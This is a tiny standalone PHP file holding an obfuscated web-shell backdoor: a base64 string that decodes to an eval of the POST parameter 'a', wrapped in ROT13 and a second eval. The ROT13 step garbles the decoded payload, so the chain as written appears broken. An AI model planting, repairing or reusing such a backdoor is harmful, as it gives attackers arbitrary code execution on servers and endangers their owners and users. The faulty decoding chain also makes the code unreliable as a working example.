<?php
eval(str_rot13(base64_decode('ZXZhbCgkX1BPU1RbJ2EnXSk7')));
